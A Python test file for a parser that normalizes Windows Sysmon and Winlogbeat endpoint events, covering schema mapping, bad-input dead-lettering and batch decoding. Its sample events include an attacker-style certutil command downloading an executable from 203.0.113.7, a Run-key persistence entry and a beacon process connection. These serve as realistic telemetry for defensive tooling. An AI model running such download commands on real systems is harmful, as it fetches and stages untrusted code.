"""parse_endpoint: raw Windows/Sysmon event JSON and Winlogbeat ECS JSON."""

import json
from datetime import UTC, datetime

import polars as pl

from ingest.parsers import parse_endpoint
from ingest.schema import ENDPOINT_SCHEMA
from tests.test_ingest import ingest_samples as samples
from tests.test_ingest.ingest_samples import subset


def parse_rows(lines: list[str | None]) -> list[dict[str, object]]:
    result = parse_endpoint(pl.Series(lines, dtype=pl.String))
    assert result.dead.height == 0, result.dead.to_dicts()
    return result.events.to_dicts()


def test_raw_sysmon_process_creation() -> None:
    expected = {
        "@timestamp": datetime(2024, 1, 2, 3, 4, 5, 678000, tzinfo=UTC),
        "event.dataset": "endpoint.sysmon",
        "event.module": "sysmon",
        "event.kind": "event",
        "event.category": "process",
        "event.type": "start",
        "event.code": "1",
        "winlog.event_id": "1",
        "winlog.channel": "Microsoft-Windows-Sysmon/Operational",
        "host.name": "ws01.corp.example",
        "process.executable": "C:\\Windows\\System32\\certutil.exe",
        "process.name": "certutil.exe",
        "process.command_line": "certutil.exe -urlcache -f http://203.0.113.7/a.exe a.exe",
        "process.pid": 4242,
        "process.entity_id": "{7c4a1f2e-1234-5678-9abc-def012345678}",
        "process.working_directory": "C:\\Users\\alice\\",
        "process.pe.original_file_name": "CertUtil.exe",
        "process.pe.imphash": "0011aa",
        "process.hash.md5": "ab12cd",
        "process.hash.sha1": None,
        "process.hash.sha256": "ef34ab",
        "process.parent.executable": "C:\\Windows\\System32\\cmd.exe",
        "process.parent.name": "cmd.exe",
        "process.parent.command_line": "cmd.exe /c run.bat",
        "process.parent.pid": 1000,
        "user.name": "alice",
        "user.domain": "CORP",
        "winlog.event_data.IntegrityLevel": "High",
        "winlog.event_data.Hashes": "MD5=AB12CD,SHA256=EF34AB,IMPHASH=0011AA",
    }
    assert subset(parse_rows([samples.SYSMON_PROCESS])[0], expected) == expected


def test_event_nested_under_event_system_and_event_data() -> None:
    expected = {
        "event.code": "13",
        "event.category": "registry",
        "host.name": "ws02",
        "process.name": "regedit.exe",
        "registry.path": samples.RUN_KEY + "\\upd",
        "registry.value": "upd",
        "winlog.event_data.Details": "C:\\Users\\Public\\upd.exe",
        "winlog.event_data.EventType": "SetValue",
    }
    assert subset(parse_rows([samples.EVTX_REGISTRY])[0], expected) == expected


def test_flat_event_without_timestamp_keeps_a_null_timestamp() -> None:
    line = json.dumps({"EventID": "4688", "Computer": "dc01", "CommandLine": "whoami /all"})
    row = parse_rows([line])[0]
    assert subset(row, {"@timestamp": 0, "event.code": 0, "event.module": 0, "host.name": 0}) == {
        "@timestamp": None,
        "event.code": "4688",
        "event.module": "windows",
        "host.name": "dc01",
    }


def test_winlogbeat_document() -> None:
    expected = {
        "@timestamp": datetime(2024, 1, 2, 3, 4, 5, 678000, tzinfo=UTC),
        "event.dataset": "endpoint.winlogbeat",
        "event.code": "3",
        "winlog.event_id": "3",
        "event.category": "network",
        "host.name": "ws03",
        "winlog.computer_name": "ws03.corp.example",
        "process.executable": "C:\\Tools\\beacon.exe",
        "process.name": "beacon.exe",
        "process.pid": 77,
        "user.name": "bob",
        "user.domain": "CORP",
        "destination.ip": "203.0.113.7",
        "destination.port": 443,
        "source.port": 50123,
        "network.transport": "tcp",
    }
    assert subset(parse_rows([samples.WINLOGBEAT_NETWORK])[0], expected) == expected


def test_dead_letters_and_survivors_of_a_bad_batch() -> None:
    lines = [
        samples.SYSMON_PROCESS,
        "{not json",
        "[1, 2, 3]",
        '{"EventID": {"#text": 7036}}',
        '{"hello": "world"}',
        samples.WINLOGBEAT_NETWORK,
        "",
        '"just a string"',
        json.dumps({"EventID": 1, "UtcTime": "yesterday"}),
        samples.EVTX_REGISTRY,
    ]
    result = parse_endpoint(pl.Series(lines))
    assert result.events.get_column("event.code").to_list() == ["1", "3", "13"]
    assert result.dead.select("position", "reason").rows() == [
        (1, "invalid JSON"),
        (2, "JSON value is not an object"),
        (3, "JSON field types do not fit the endpoint schema"),
        (4, "unrecognized endpoint event shape"),
        (6, "empty line"),
        (7, "JSON value is not an object"),
        (8, "invalid timestamp"),
    ]
    assert result.events.schema == pl.Schema(ENDPOINT_SCHEMA)


def test_winlog_mentioned_in_a_raw_event_is_still_raw() -> None:
    mentioned = json.dumps({"EventID": 1, "CommandLine": "winlog"})
    as_key = json.dumps({"EventID": 2, "winlog": "not an object"})
    rows = parse_rows([mentioned, as_key])
    assert [row["event.dataset"] for row in rows] == ["endpoint.sysmon", "endpoint.sysmon"]


def test_sysmon_hashes_are_kept_whole_and_split_in_both_shapes() -> None:
    hashes = "SHA1=AA11,MD5=BB22,SHA256=CC33,IMPHASH=DD44"
    raw = json.dumps({"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
                      "Image": "C:\\x\\a.exe", "Hashes": hashes})  # fmt: skip
    beats = json.dumps({
        "@timestamp": "2024-01-02T03:04:05.678Z",
        "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": "1",
                   "event_data": {"Hashes": hashes}},
        "process": {"executable": "C:\\x\\a.exe"},
    })  # fmt: skip
    columns = ["winlog.event_data.Hashes", "process.hash.md5", "process.hash.sha1",
               "process.hash.sha256", "process.pe.imphash"]  # fmt: skip
    rows = [subset(row, dict.fromkeys(columns)) for row in parse_rows([raw, beats])]
    expected = dict(zip(columns, [hashes, "bb22", "aa11", "cc33", "dd44"], strict=True))
    assert rows == [expected, expected]


def test_nested_key_spelled_with_a_unicode_escape_is_still_read() -> None:
    # Flat events leave the nested objects out of the decoded struct; an escaped key
    # ("\u0045" is "E") must not be mistaken for an absent one.
    flat = json.dumps({"EventID": 1, "Computer": "ws01"})
    escaped = '{"\\u0045ventData": {"Image": "C:\\\\x\\\\a.exe"}, "EventID": 1}'
    rows = parse_rows([flat, escaped])
    assert [row["process.name"] for row in rows] == [None, "a.exe"]


def test_nested_keys_are_told_from_values_of_the_same_name() -> None:
    # "System" as a value (an integrity level) holds no nested object; "System" as a key,
    # spaced from its colon, does, and so does a root that only a later line names.
    value = json.dumps({"EventID": 1, "Computer": "ws01", "IntegrityLevel": "System"})
    spaced = '{"System" :\t{"EventID": 1, "Computer": "ws02"}}'
    nested = json.dumps({"Event": {"EventData": {"Image": "C:\\x\\b.exe"}}, "EventID": 1})
    assert [row["host.name"] for row in parse_rows([value, value])] == ["ws01", "ws01"]
    rows = parse_rows([value, spaced, nested])
    assert [row["host.name"] for row in rows] == ["ws01", "ws02", None]
    assert [row["process.name"] for row in rows] == [None, None, "b.exe"]


def test_large_batch_decoded_in_slices_keeps_positions_and_reasons() -> None:
    # Large enough to be decoded in slices side by side; the failures sit in both halves.
    lines = [json.dumps({"EventID": 1, "Computer": f"ws{index}"}) for index in range(10_000)]
    lines[3] = "{not json"
    lines[9_998] = '{"EventID": {"#text": 7036}}'
    result = parse_endpoint(pl.Series(lines))
    assert result.dead.select("position", "reason").rows() == [
        (3, "invalid JSON"),
        (9_998, "JSON field types do not fit the endpoint schema"),
    ]
    names = result.events.get_column("host.name")
    assert names.len() == 9_998
    assert names.to_list()[:4] == ["ws0", "ws1", "ws2", "ws4"]
    assert names.to_list()[-2:] == ["ws9997", "ws9999"]
